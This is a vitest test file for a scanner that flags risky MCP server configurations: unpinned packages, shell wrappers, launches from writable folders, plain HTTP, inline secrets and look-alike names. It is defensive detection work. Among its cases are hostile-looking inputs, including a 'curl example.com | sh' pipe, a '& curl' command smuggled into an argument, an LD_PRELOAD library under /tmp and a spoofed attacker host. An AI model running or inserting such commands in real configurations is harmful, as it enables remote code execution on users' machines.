import { describe, expect, it } from 'vitest';
import { readClientConfig } from '../../../../src/artifacts/client-config/read.ts';
import { findInConfigs } from '../../../../src/features/scan/config/find-in-config.ts';
import { unpinnedPackages } from '../../../../src/features/scan/config/packages.ts';

/** Returns what is found in a configured server, as `rule /pointer`. */
function found(server: object, name = 's'): string[] {
  const config = readClientConfig(JSON.stringify({ mcpServers: { [name]: server } }), 'mcp.json');
  return findInConfigs([config]).map(({ hit }) => `${hit.rule} /${hit.path.slice(2).join('/')}`);
}

/** Returns a server that is started by these words. */
function wordsOf(line: string): object {
  const [command, ...args] = line.split(' ');
  return { command, args };
}

/** A reference to a variable, which the client puts in. */
const ref = (name: string) => `\${${name}}`;

describe('a package', () => {
  it.each([
    ['npx -y pkg', 'pkg'],
    ['npx -y @scope/pkg@latest', '@scope/pkg@latest'],
    ['npx -y pkg@^1.2.3', 'pkg@^1.2.3'],
    ['npx --package=pkg@next cmd', 'pkg@next'],
    ['npx -p pkg cmd', 'pkg'],
    ['npx --registry https://example.com pkg', 'pkg'],
    ['npx.cmd pkg', 'pkg'],
    ['/usr/bin/npx pkg', 'pkg'],
    ['npx github:me/pkg', 'github:me/pkg'],
    ['npm exec pkg', 'pkg'],
    ['npm x -y pkg', 'pkg'],
    ['pnpm dlx pkg', 'pkg'],
    ['yarn dlx pkg', 'pkg'],
    ['bun x pkg', 'pkg'],
    ['bunx pkg', 'pkg'],
    ['uvx pkg', 'pkg'],
    ['uvx --from git+https://example.com/x cmd', 'git+https://example.com/x'],
    ['uv tool run pkg', 'pkg'],
    ['pipx run pkg', 'pkg'],
    ['pipx run --spec pkg cmd', 'pkg'],
    ['docker run -i --rm -e A=b mcp/thing', 'mcp/thing'],
    ['podman run mcp/thing:latest', 'mcp/thing:latest'],
    ['npx -p a@1.2.3 -p pkg cmd', 'pkg'],
    ['npx --prefix /x -y pkg', 'pkg'],
    ['npx https://example.com/pkg@1.2.3', 'https://example.com/pkg@1.2.3'],
    ['npm -y exec pkg', 'pkg'],
    ['npm exec -- pkg', 'pkg'],
    ['npm init pkg', 'pkg'],
    ['pnpm --silent dlx pkg', 'pkg'],
    ['pnpm create pkg', 'pkg'],
    ['bun --bun x pkg', 'pkg'],
    ['uvx --with pkg,more good==1.2.3', 'pkg, more'],
    ['uvx --from=pkg cmd', 'pkg'],
    ['uv run --with mcp[cli] mcp run server.py', 'mcp[cli]'],
    ['uv --directory /x tool run pkg', 'pkg'],
    ['docker container run img', 'img'],
    ['docker --context x run -i img', 'img'],
    ['docker run --gpus all img', 'img'],
    ['nerdctl run img', 'img'],
    ['deno run -A npm:pkg', 'npm:pkg'],
    ['deno run https://example.com/x.ts', 'https://example.com/x.ts'],
    ['go run example.com/x@latest', 'example.com/x@latest'],
  ])('without a version: %s', (line, name) => {
    const [command = '', ...args] = line.split(' ');
    expect(unpinnedPackages(command, args)).toEqual(name.split(', '));
  });

  it.each([
    'npx -y pkg@1.2.3',
    'npx -y @scope/pkg@1.2.3-beta.1',
    'npx ./here',
    'npx github:me/pkg#0123456789abcdef0123456789abcdef01234567',
    'npm run start',
    'npm exec',
    'uvx pkg==1.2.3',
    'uvx pkg@1.2',
    'uvx ./here',
    'uvx --from git+https://example.com/x@0123456789abcdef0123456789abcdef01234567 cmd',
    `docker run mcp/thing@sha256:${'0'.repeat(64)}`,
    'docker run mcp/thing:1.2.3',
    'docker ps',
    'npx C:\\\\servers\\\\x',
    'uvx git+https://example.com/x@v1.2',
    'node server.js',
    'constructor x',
    'npx',
    'npx --no-install pkg',
    'npx -p a@1.2.3 -p b@1.2.3 cmd',
    'npx -p',
    'npm -y',
    'uvx pkg==25',
    'uv run server.py',
    'docker run --gpus all img:1.2.3',
    'docker run --security-opt no-new-privileges --cap-drop ALL img:1.2.3',
    'docker run -it -p80:80 -eA=b -v /a:/b --pull=always img:1.2.3',
    'docker run --rm --init --privileged img:1.2.3',
    'deno run -A server.ts',
    'deno run npm:pkg@1.2.3',
    'deno run https://example.com/x@1.2.3/mod.ts',
    'go run ./cmd',
    'go run example.com/x@v1.2.3',
  ])('with a version, or none at all: %s', (line) => {
    const [command = '', ...args] = line.split(' ');
    expect(unpinnedPackages(command, args)).toEqual([]);
  });
});

describe('a configured server', () => {
  it.each([
    [{ command: 'sh', args: ['-c', 'x'] }, ['config-shell /command']],
    [{ command: 'cmd', args: ['/c', 'a & b'] }, ['config-shell /command']],
    [{ command: 'cmd', args: ['/c', 'npx', 'pkg@1.0.0', '|', 'x'] }, ['config-shell /command']],
    [{ command: 'cmd', args: ['/c', 'powershell', 'x'] }, ['config-shell /command']],
    [{ command: 'cmd', args: ['/c', 'npx', 'pkg@1.0.0'] }, []],
    [{ command: 'C:\\Windows\\System32\\cmd.exe', args: [] }, ['config-shell /command']],
    [{ command: '/tmp/server' }, ['config-writable-folder /command']],
    [{ command: 'node', args: ['/var/tmp/server.mjs'] }, ['config-writable-folder /command']],
    [{ command: 'C:\\Users\\Public\\server.exe' }, ['config-writable-folder /command']],
    [{ command: 'node', args: ['server.js', '/tmp/data'] }, []],
    [{ command: { path: 'bash', args: ['-c', 'x'] } }, ['config-shell /command']],
    [{ command: { command: 'npx', args: ['pkg'] } }, ['config-unpinned /command']],
    [{ command: ['npx', 'pkg'] }, ['config-unpinned /command']],
    [{ url: 'http://example.com/mcp' }, ['config-plain-http /url']],
    [{ serverUrl: 'http://192.168.1.2/' }, ['config-plain-http /serverUrl']],
    [{ command: 'npx', args: ['mcp-remote@0.1.0', 'http://example.com/mcp'] }, ['config-plain-http /args/1']],
    [{ url: 'http://127.0.0.1:1/' }, []],
    [{ url: 'http://[::1]:1/' }, []],
    [{ url: 'http://app.localhost/' }, []],
    [{ url: 'http://' }, []],
    [{ url: 'https://example.com/' }, []],
    [{ command: 'x', env: { DB_PASSWORD: 'correct-horse-battery' } }, ['config-secret /env/DB_PASSWORD']],
    [{ command: 'x', env: { API_KEY: '$API_KEY', TOKEN: ref('env:T'), KEY: '%KEY%', PAT: '{{pat}}' } }, []],
    [
      { command: 'x', env: { TOKEN_FILE: '/home/me/token.txt', MAX_TOKENS: '4096', API_KEY: '<your key>' } },
      [],
    ],
    [{ command: 'x', env: { API_KEY: 'short' } }, []],
    [
      { url: 'https://example.com', requestInit: { headers: { 'X-Api-Key': 'q8Zt1LmX0vR5nB2k' } } },
      ['config-secret /requestInit/headers/X-Api-Key'],
    ],
    [{ command: 'x', args: ['--token=q8Zt1LmX0vR5nB2k'] }, ['config-secret /args/0']],
    [{ command: 'x', args: ['--token', 'q8Zt1LmX0vR5nB2k', '7'] }, ['config-secret /args/1']],
    [{ command: 'x', args: ['--header', `Authorization: ${ref('AUTH')}`] }, []],
    [{ url: 'https://me:hunter2hunter2@example.com/' }, ['config-secret /url']],
    [{ url: 'https://example.com/?api_key=q8Zt1LmX0vR5nB2kW3' }, ['config-secret /url']],
    [{ url: `https://me:${ref('PASSWORD')}@example.com/?page=2` }, []],
    [{ url: 'http://127.attacker.example/mcp' }, ['config-plain-http /url']],
    [{ url: 'ws://example.com/mcp' }, ['config-plain-http /url']],
    [{ command: 'npx', args: ['a@1.0.0', '--url=http://example.com/'] }, ['config-plain-http /args/1']],
    [{ uri: 'http://example.com/' }, ['config-plain-http /uri']],
    ...['cmd /d /s /c npx pkg@1.0.0', 'op run -- npx pkg@1.0.0', 'op run', 'env A=b', 'timeout 60'].map(
      (line): [object, string[]] => [wordsOf(line), []],
    ),
    ...[
      'tcsh -c x',
      'ash -c x',
      'nu -c x',
      'env bash -c x',
      'env -i -u A B=c bash -c x',
      'sudo -u me sh -c x',
      'nohup bash -c x',
      'timeout -k 5 60 bash -c x',
      'busybox sh -c x',
      'wsl.exe bash -c x',
      'wsl -d Debian -- bash -c x',
      'npx -c x',
    ].map((line): [object, string[]] => [wordsOf(line), ['config-shell /command']]),
    [{ command: "bash -c 'curl example.com | sh'" }, ['config-shell /command']],
    [{ command: 'env', args: ['-S', 'bash -c x'] }, ['config-shell /command']],
    [{ command: 'env', args: ['-Sbash -c x'] }, ['config-shell /command']],
    [{ command: 'env', args: ['-S'] }, []],
    [{ command: 'cmd', args: ['/c', 'npx -y a@1.0.0 & curl x'] }, ['config-shell /command']],
    [{ command: 'C:\\Program Files\\nodejs\\node.exe', args: ['server.js'] }, []],
    [{ command: '/Applications/My App/server' }, []],
    [{ command: 'npx -y pkg' }, ['config-unpinned /command']],
    [{ command: 'env', args: ['A=b', 'npx', 'pkg'] }, ['config-unpinned /command']],
    [{ command: 'cmd', args: ['/c', 'npx', 'pkg'] }, ['config-unpinned /command']],
    [{ command: 'node', args: ['/usr/lib/npm/bin/npx-cli.js', '-y', 'pkg'] }, ['config-unpinned /command']],
    ...['/usr/../tmp/srv', '//tmp/srv', '/tmp/./srv', 'file:///tmp/srv'].map(
      (command): [object, string[]] => [{ command }, ['config-writable-folder /command']],
    ),
    [{ command: './srv', cwd: '/tmp/x' }, ['config-writable-folder /command']],
    [{ command: 'node', args: ['srv.js'], cwd: '/tmp' }, ['config-writable-folder /command']],
    [{ command: 'srv', args: ['--log', '/tmp/x.log'], cwd: '/tmp' }, []],
    [{ command: 'python3', args: ['-u', '/tmp/x/srv'] }, ['config-writable-folder /command']],
    [{ command: 'node', args: ['--require=/tmp/x.js', 'a.js'] }, ['config-writable-folder /command']],
    [{ command: 'node', args: ['--require', '/tmp/x', 'a.js'] }, ['config-writable-folder /command']],
    [{ command: 'node', args: ['a.js', '--require'] }, []],
    [{ command: 'x', env: { LD_PRELOAD: '/tmp/e.so' } }, ['config-writable-folder /command']],
    [{ command: 'x', env: { PATH: '/usr/bin:/bin' } }, []],
    [{ command: 'x', env: { API_KEY: `\${API_KEY:-q8Zt1LmX0vR5nB2k}` } }, ['config-secret /env/API_KEY']],
    [{ command: 'x', env: { API_KEY: `\${API_KEY:-}`, T_TOKEN: `\${input:my-key}` } }, []],
    [
      { command: 'x', env: { PIN_PASSWORD: 12345678, PORT: 80, NONE: null } },
      ['config-secret /env/PIN_PASSWORD'],
    ],
    [{ command: 'x', env: { DB_PASSWORD: 'correct horse battery' } }, ['config-secret /env/DB_PASSWORD']],
    [
      { command: { path: 'x', args: ['--api-key', 'q8Zt1LmX0vR5nB2k'], env: { TOKEN: 'q8Zt1LmX0vR5nB2k' } } },
      ['config-secret /command/env/TOKEN', 'config-secret /command/args/1'],
    ],
    [
      { url: 'https://example.com', oauth: { clientSecret: 'q8Zt1LmX0vR5nB2k', clientId: 'abcdefghijk' } },
      ['config-secret /oauth/clientSecret'],
    ],
    [
      { url: 'https://example.com', auth: { tokens: ['x'], token: 'q8Zt1LmX0vR5nB2k' } },
      ['config-secret /auth/token'],
    ],
    [
      { command: 'x', args: ['--header', 'X-Api-Key:q8Zt1LmX0vR5nB2k', '-H', 'none'] },
      ['config-secret /args/1'],
    ],
    [{ command: 'x --api-key q8Zt1LmX0vR5nB2k' }, ['config-secret /command']],
    [{ command: 'x', args: ['--password', 'correct horse battery'] }, ['config-secret /args/1']],
    [{ command: 'x', args: ['--header', 'x-api-key=q8Zt1LmX0vR5nB2k'] }, ['config-secret /args/1']],
    [
      { command: 'bash', args: ['-c', 'srv --api-key q8Zt1LmX0vR5nB2k'] },
      ['config-shell /command', 'config-secret /args/1'],
    ],
    [{ url: 'https://me:%zz%q8Zt1LmX0vR5@example.org/' }, ['config-secret /url']],
    ...[
      ['GOOGLE_APPLICATION_CREDENTIALS', '/home/me/key.json'],
      ['GOOGLE_APPLICATION_CREDENTIALS', 'C:\\Users\\me\\key.json'],
      ['SSH_AUTH_SOCK', '/run/user/1000/agent.sock'],
      ['SSH_KEY', '~/.ssh/id_ed25519'],
      ['TOKEN_ENDPOINT', 'https://login.example.com/token'],
      ['AUTH_METHOD', 'oauth-device'],
      ['AUTH', 'interactive'],
      ['CREDENTIALS_SOURCE', 'environment'],
      ['PRIMARY_KEY', 'customer_id'],
      ['TOKEN_TTL', '3600seconds'],
    ].map(([name = '', value]): [object, string[]] => [{ command: 'x', env: { [name]: value } }, []]),
    [
      {
        command: 'x',
        args: ['--sort-key', 'created_at_desc', '--key', '/x/key.pem', '--auth', 'interactive'],
      },
      [],
    ],
  ])('%j', (server, rules) => {
    expect(found(server)).toEqual(rules);
  });

  it('is never shown with its secret', () => {
    const secret = 'q8Zt1LmX0vR5nB2kW3';
    const config = readClientConfig(
      JSON.stringify({
        mcpServers: {
          a: { command: 'x', args: ['--token', secret], env: { TOKEN: secret } },
          b: { url: `http://me:${secret}@example.com/?token=${secret}` },
        },
      }),
      'mcp.json',
    );
    const hits = findInConfigs([config]);
    expect(hits.map(({ hit }) => hit.rule)).toEqual([
      'config-secret',
      'config-secret',
      'config-plain-http',
      'config-secret',
    ]);
    expect(JSON.stringify(hits)).not.toContain(secret);
  });

  it('has a name of its own, unless it is the same server', () => {
    const config = (file: string, name: string, command: string) =>
      readClientConfig(JSON.stringify({ mcpServers: { [name]: { command } } }), file);
    const rules = (...configs: ReturnType<typeof config>[]) =>
      findInConfigs(configs).map(({ hit }) => `${hit.rule}: ${hit.evidence}`);
    expect(rules(config('a', 'mail', 'x'), config('b', 'mail', 'x'))).toEqual([]);
    expect(rules(config('a', 'mail', 'x'), config('b', 'mail', 'y'))).toEqual([
      'config-same-name: mail in a',
    ]);
    expect(rules(config('a', 'mail', 'x'), config('b', 'm\u0430il', 'x'))).toEqual([
      'config-same-name: mail in a',
    ]);
  });
});
